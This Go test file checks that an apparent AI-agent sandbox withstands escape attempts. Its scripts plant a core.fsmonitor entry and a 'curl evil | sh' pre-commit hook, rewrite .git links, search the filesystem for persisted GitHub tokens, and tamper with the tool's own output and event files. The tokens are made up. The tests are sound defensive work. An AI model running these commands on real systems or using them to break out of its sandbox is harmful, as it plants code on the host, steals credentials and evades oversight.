package sandbox_test

import (
	"crypto/sha256"
	"encoding/hex"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/goalrun/goalrun/sandbox"
	"github.com/goalrun/goalrun/sandbox/dockertest"
)

// The token of the attack tests, base64 of "x-access-token:ghs_…" as
// actions/checkout persists it (made up, of the real shape), and a token
// in a submodule's remote URL.
const (
	gitTestToken    = "eC1hY2Nlc3MtdG9rZW46Z2hzX2dvYWxydW5BdHRhY2tUb2tlbjAxMjM0NTY3ODk="
	gitTestURLToken = "ghs_goalrunSubmoduleURLToken0123456789"
)

// gitRepoFiles is a checkout as actions/checkout (v4, persist-credentials
// on) leaves it, with a submodule whose config carries a token URL and a
// linked worktree's .git file.
var gitRepoFiles = map[string]string{
	".git/config": `[core]
	repositoryformatversion = 0
	filemode = true
	bare = false
	logallrefupdates = true
[remote "origin"]
	url = https://github.com/goalrun/goalrun
	fetch = +refs/heads/*:refs/remotes/origin/*
[gc]
	auto = 0
[http "https://github.com/"]
	extraheader = AUTHORIZATION: basic ` + gitTestToken + `
[branch "main"]
	remote = origin
	merge = refs/heads/main
`,
	".git/HEAD":                      "ref: refs/heads/main\n",
	".git/refs/heads/main":           "1111111111111111111111111111111111111111\n",
	".git/hooks/pre-commit.sample":   "#!/bin/sh\n",
	".git/modules/vendor/lib/config": "[core]\n\tworktree = ../../../vendor/lib\n[remote \"origin\"]\n\turl = https://x-access-token:" + gitTestURLToken + "@github.com/o/lib\n",
	".git/modules/vendor/lib/HEAD":   "ref: refs/heads/main\n",
	"vendor/lib/.git":                "gitdir: ../../.git/modules/vendor/lib\n",
	"vendor/lib/lib.go":              "package lib\n",
	"nested/repo/.git/config":        "[core]\n\tbare = false\n",
	"nested/repo/.git/HEAD":          "ref: refs/heads/main\n",
	"nested/repo/x.txt":              "x\n",
	"main.go":                        "package main\n",
}

// treeHashes returns the content hash (or link target, or "dir") of every
// entry under dir whose path has a .git element, by slash path.
func treeHashes(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		rel = filepath.ToSlash(rel)
		if !strings.Contains("/"+rel+"/", "/.git/") {
			return nil
		}
		info, err := e.Info()
		if err != nil {
			return err
		}
		switch {
		case e.IsDir():
			out[rel] = "dir " + info.Mode().String()
		case e.Type()&fs.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			out[rel] = "link " + l
		default:
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			s := sha256.Sum256(b)
			out[rel] = info.Mode().String() + " " + hex.EncodeToString(s[:])
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func diffHashes(before, after map[string]string) []string {
	var d []string
	for k, v := range before {
		if after[k] != v {
			d = append(d, k+": "+v+" → "+after[k])
		}
	}
	for k, v := range after {
		if _, ok := before[k]; !ok {
			d = append(d, "new "+k+": "+v)
		}
	}
	sort.Strings(d)
	return d
}

// TestAttackGitConfigAndHooks: the agent (and code the check runs) tries to
// plant code for the host's git — core.fsmonitor appended to .git/config, a
// hook, a rewritten worktree link, a submodule's .git moved aside and
// replaced by its own, a nested repository's folder renamed — and to read
// the token actions/checkout persisted. In bind and copy mode the host's
// .git entries stay byte for byte as they were, no .git the sandbox made
// reaches the host in copy mode, and neither step can find the tokens
// anywhere (the configs the sandbox sees are sanitized, with their other
// settings kept).
func TestAttackGitConfigAndHooks(t *testing.T) {
	attack := `
printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/config
echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
echo 'gitdir: /tmp/evil' > vendor/lib/.git
mv vendor/lib vendor/lib-aside; mkdir -p vendor/lib/.git; printf '[core]\n\tfsmonitor = evil\n' > vendor/lib/.git/config
mv nested nested-aside; mkdir -p nested/repo/.git; printf '[core]\n\tfsmonitor = evil\n' > nested/repo/.git/config
mv .git .git-aside
mkdir -p fresh/.git && printf '[core]\n\tfsmonitor = evil\n' > fresh/.git/config
true`
	hunt := `grep -r -l -s -e "` + gitTestToken + `" -e "` + gitTestURLToken + `" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | sed 's/^/FOUND:/'; ` +
		`cat .git/config .git/modules/vendor/lib/config`
	for _, mode := range []sandbox.WorkspaceMode{sandbox.WorkspaceBind, sandbox.WorkspaceCopy} {
		t.Run(string(mode), func(t *testing.T) {
			ws := dockertest.Workspace(t, testUID, testGID)
			writeTree(t, ws, gitRepoFiles)
			before := treeHashes(t, ws)
			sb, _ := startDocker(t, sandbox.Config{Workspace: ws, WorkspaceMode: mode})

			for _, role := range bothRoles {
				res := run(t, sb, sh(role, hunt))
				out := string(res.Stdout.Tail) + string(res.Stderr.Tail)
				if strings.Contains(out, gitTestToken) || strings.Contains(out, gitTestURLToken) || strings.Contains(out, "FOUND:") {
					t.Errorf("the %s step found a token: breach\n%s", role, out)
				}
				for _, kept := range []string{"url = https://github.com/goalrun/goalrun", "merge = refs/heads/main", "url = https://github.com/o/lib", "goalrun removed the credentials"} {
					if !strings.Contains(out, kept) {
						t.Errorf("the %s step's sanitized config lost %q:\n%s", role, kept, out)
					}
				}
			}

			run(t, sb, sh(sandbox.RoleAgent, attack))
			run(t, sb, sh(sandbox.RoleCheck, attack))
			// The agent's tree as the host got it (copy mode copies out
			// after each agent step).
			if d := diffHashes(before, treeHashes(t, ws)); mode == sandbox.WorkspaceCopy && len(d) > 0 {
				t.Errorf("the host's .git entries changed: breach\n%s", strings.Join(d, "\n"))
			} else if mode == sandbox.WorkspaceBind {
				// In bind mode the agent may make a new .git where none
				// was (the verdict fails such a run closed); every .git
				// the host had is untouched and still in its place.
				for _, l := range d {
					if !strings.HasPrefix(l, "new fresh/.git") {
						t.Errorf("a .git of the host changed or moved: breach: %s", l)
					}
				}
			}
			for _, p := range []string{"vendor/lib-aside", "nested-aside", ".git-aside"} {
				if _, err := os.Lstat(filepath.Join(ws, p)); err == nil && mode == sandbox.WorkspaceBind {
					t.Errorf("the agent moved a folder holding a .git aside (%s): breach", p)
				}
			}
		})
	}
}

// TestAttackHostOwnedFilesBindMode: in bind mode goalrun's own files
// (Config.HostOwned: its --output and --events, opened before the sandbox
// starts) are read-only to the agent, and the folders above them cannot be
// moved or removed: the agent's attempts to delete, overwrite, chmod,
// hard-link or move them, or to move their folder aside, all fail, and the
// host's files keep goalrun's content, inode and mode.
func TestAttackHostOwnedFilesBindMode(t *testing.T) {
	ws := dockertest.Workspace(t, testUID, testGID)
	writeTree(t, ws, map[string]string{"out/doc.json": "goalrun's\n", "events.jsonl": "goalrun's events\n", "main.go": "package main\n"})
	before := map[string]os.FileInfo{}
	for _, p := range []string{"out/doc.json", "events.jsonl"} {
		fi, err := os.Stat(filepath.Join(ws, p))
		if err != nil {
			t.Fatal(err)
		}
		before[p] = fi
	}
	sb, _ := startDocker(t, sandbox.Config{Workspace: ws, WorkspaceMode: sandbox.WorkspaceBind,
		HostOwned: []string{"out/doc.json", "events.jsonl"}})
	attack := `for f in out/doc.json events.jsonl; do
  rm -f $f && echo "REMOVED $f"
  echo forged > $f && echo "WROTE $f"
  chmod 000 $f && echo "CHMOD $f"
  ln $f $f.link && echo "LINKED $f"
  mv $f $f.aside && echo "MOVED $f"
done
mv out out-aside && echo "MOVED out"
chmod 555 out
true`
	res := run(t, sb, sh(sandbox.RoleAgent, attack))
	if out := string(res.Stdout.Tail); strings.TrimSpace(out) != "" {
		t.Errorf("the agent changed goalrun's files: breach\n%s", out)
	}
	for p, fi := range before {
		after, err := os.Stat(filepath.Join(ws, p))
		b, _ := os.ReadFile(filepath.Join(ws, p))
		if err != nil || !os.SameFile(fi, after) || after.Mode() != fi.Mode() || !strings.HasPrefix(string(b), "goalrun's") {
			t.Errorf("%s on the host: %v, %q (same file %v, mode %v → %v)", p, err, b, err == nil && os.SameFile(fi, after), fi.Mode(), after.Mode())
		}
	}
	if _, err := os.Lstat(filepath.Join(ws, "out-aside")); err == nil {
		t.Errorf("the agent moved the document's folder aside: breach")
	}
}
